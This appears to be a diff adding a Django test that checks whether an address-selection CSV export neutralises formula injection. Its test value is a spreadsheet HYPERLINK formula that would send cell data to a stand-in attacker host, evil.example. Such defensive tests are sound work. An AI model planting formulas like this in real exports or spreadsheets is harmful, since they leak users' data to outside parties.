@@ -303,6 +303,32 @@ def test_four_eyes_over_http(run, analist, goedkeurder, client):
     assert Verwerkingslog.objects.filter(object_ref=f"selectie:{selectie.pk}").count() == lines + 1
 
 
+def test_the_address_list_lets_no_formula_through_and_keeps_numbers(
+    run, analist, goedkeurder, client
+):
+    selectie = selectie_compose(actor=analist, run=run, naam="Formules", top_n=2)
+    object_id = ranking(run)[10][0]
+    reason = '=HYPERLINK("https://evil.example/?d="&A1,"Bekijk")'
+    added = selectie_address_add(
+        actor=analist,
+        selectie=selectie,
+        verblijfsobject=Verblijfsobject.objects.get(object_id=object_id),
+        reden=reason,
+    )
+    selectie_submit(actor=analist, selectie=selectie)
+    selectie_decide(actor=goedkeurder, selectie=selectie, goedkeuren=True, toelichting="Akkoord")
+    client.force_login(analist)
+    export = client.get(reverse("selectie-export", kwargs={"pk": selectie.pk}))
+    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
+    row = next(r for r in rows[1:] if r[0] == object_id)
+    assert (row[4], row[5], row[7], row[8]) == (
+        f"{added.score:.3f}".replace(".", ","),
+        str(added.rang),
+        "Handmatig toegevoegd",
+        "'" + reason,
+    )
+
+
 def test_a_concept_cannot_be_exported(run, analist, client):
     selectie = selectie_compose(actor=analist, run=run, naam="Concept", top_n=2)
     client.force_login(analist)
